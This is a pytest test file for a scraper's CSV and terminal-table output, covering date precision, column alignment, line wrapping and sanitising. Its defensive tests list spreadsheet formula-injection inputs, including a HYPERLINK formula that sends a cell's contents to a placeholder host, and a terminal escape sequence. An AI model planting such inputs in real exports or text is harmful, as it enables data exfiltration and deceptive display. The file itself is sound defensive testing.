"""Rows for spreadsheets and columns for terminals."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scraper.models import Article, Count, Image, Moment, Precision, StoredArticle, Zone
from scraper.publish import tables

AT = datetime(2021, 3, 25, 9, 30, 5, tzinfo=UTC)
TEHRAN = timezone(timedelta(hours=3, minutes=30))


def _stored(**changes: object) -> StoredArticle:
    values: dict[str, object] = {"url": "https://daily.example/1", "title": "Title", "body": "One\n\nTwo"}
    article = Article(**{**values, **changes})  # type: ignore[arg-type]
    return StoredArticle(id=3, source="daily", article=article, first_seen_at=AT, last_seen_at=AT, revisions=2)


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_row_reads_back_under_its_header() -> None:
    stored = _stored(
        views=Count(value=572, text="۵۷۲مشاهدات"),
        authors=("A, B", 'C "D"'),
        images=(Image(url="https://daily.example/a.jpg"),),
        published=Moment(at=AT, precision=Precision.DAY, text="٢٥ مارس"),
    )
    (cells,) = _read(tables.header() + tables.row(stored))
    assert tuple(cells) == tables.COLUMNS
    assert cells["body"] == "One\n\nTwo"
    assert (cells["views"], cells["views_text"]) == ("572", "۵۷۲مشاهدات")
    assert cells["authors"] == 'A, B; C "D"'
    assert (cells["published"], cells["published_text"]) == ("2021-03-25", "٢٥ مارس")
    assert cells["revisions"] == "2"


@pytest.mark.parametrize(("withheld", "told"), [(True, "yes"), (False, "no")])
def test_what_is_withheld_for_legal_reasons_is_told_apart(*, withheld: bool, told: str) -> None:
    (cells,) = _read(tables.header() + tables.row(replace(_stored(), gone_at=AT, withheld=withheld)))
    assert (cells["gone_at"], cells["withheld"]) == (AT.isoformat(), told)


@given(st.text(st.characters(codec="utf-8")))
def test_any_title_survives_csv(title: str) -> None:
    text = (tables.header() + tables.row(_stored(title=title))).encode().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    read = rows[1][tables.COLUMNS.index("title")]
    assert read in {title, f"'{title}"}


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://x/"&A1)',
    "-",
    "+98 21 1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_page_is_a_formula_to_a_spreadsheet(text: str) -> None:
    (cells,) = csv.DictReader(
        io.StringIO(tables.header() + tables.row(_stored(title=text, body=text, authors=(text,))), newline="")
    )
    assert {cells[name] for name in ("title", "body", "authors")} == {f"'{text}"}


@pytest.mark.parametrize("text", ["-12.5", "+3", "0", "a=b", "", " =1", "'quoted'", "2021-03-25"])
def test_numbers_and_other_texts_are_left_as_they_are(text: str) -> None:
    (cells,) = _read(tables.header() + tables.row(_stored(title=text)))
    assert cells["title"] == text


WRITTEN = [
    (Precision.DAY, Zone.UNKNOWN, "2021-03-25"),
    (Precision.MINUTE, Zone.UNKNOWN, "2021-03-25 13:00"),
    (Precision.MINUTE, Zone.WRITTEN, "2021-03-25 13:00+03:30"),
    (Precision.SECOND, Zone.PROFILE, "2021-03-25 13:00:05+03:30"),
]


@pytest.mark.parametrize(("precision", "zone", "text"), WRITTEN)
def test_a_date_is_written_no_more_exactly_than_it_is_known(precision: Precision, zone: Zone, text: str) -> None:
    assert tables.written(Moment(at=AT.astimezone(TEHRAN), precision=precision, text="", zone=zone)) == text


def test_columns_line_up_in_every_script() -> None:
    lines = list(tables.aligned([("三人", "1", "x"), ("خَبَر", "20", "y"), ("abcdef", "300", "z")], right=[1]))
    ends = [tables.columns(line[: line.rindex(" ")]) for line in lines]
    assert ends == [ends[0]] * 3
    assert lines[2] == "abcdef  300  z"


def test_the_last_column_is_cut_at_the_width_asked_for() -> None:
    lines = list(tables.aligned([("1", "word " * 40), ("2", "三" * 80)], width=60))
    assert all(50 < tables.columns(line) <= 60 for line in lines)
    assert all(line.endswith("…") for line in lines)


def test_an_empty_table_has_no_lines() -> None:
    assert list(tables.aligned([])) == []


def test_text_of_a_page_cannot_command_the_terminal() -> None:
    assert tables.harmless("a\x1b[2Jb\nc\u202ed") == "a�[2Jb c�d"


def test_joiners_that_shape_words_stay() -> None:
    assert tables.harmless("می\u200cشود") == "می\u200cشود"


def test_a_table_fits_the_window_and_keeps_its_numbers_whole() -> None:
    row = ("a-source-with-quite-a-long-name", "1,234,567", "a second text that is long", "and a third, the last")
    for width in (100, 70, 50, 45):
        (line,) = tables.aligned([row], right=[1], width=width)
        assert tables.columns(line) <= width
        assert "1,234,567" in line
    assert line == "a-source-w…  1,234,567  a second t…  and a t…"


def test_text_from_right_to_left_is_fenced_where_something_stands_behind_it() -> None:
    first, second = tables.aligned([("روزنامه", "12", "عنوان"), ("daily", "3", "title")], right=[1])
    assert first == "\u200eروزنامه\u200e  12  عنوان"
    assert second == "daily     3  title"
    assert tables.columns(first.partition("12")[0]) == tables.columns(second.partition(" 3")[0])


@pytest.mark.parametrize(
    ("line", "width", "broken"),
    [
        ("one two", 7, ["one two"]),
        ("one two three", 7, ["one two", "three"]),
        ("one two three", 6, ["one", "two", "three"]),
        ("柳河镇 three", 6, ["柳河镇", "three"]),
        ("on  two three", 12, ["on  two", "    three"]),  # what stands in front is a third of the width
        ("one  two three", 12, ["one  two", "three"]),
    ],
)
def test_a_line_is_filled_up_to_the_last_column(line: str, width: int, broken: list[str]) -> None:
    assert list(tables.wrapped(line, width)) == broken


@given(st.text("ab  الجسر 柳河镇。「नाव\u200c", max_size=80), st.integers(12, 60))
def test_a_line_that_is_wrapped_keeps_its_words_and_fits(text: str, width: int) -> None:
    line = tables.harmless(text)
    broken = list(tables.wrapped(line, width))
    assert "".join("".join(broken).split()) == "".join(line.split())
    assert all(tables.columns(one) <= width for one in broken if " " in one.strip())
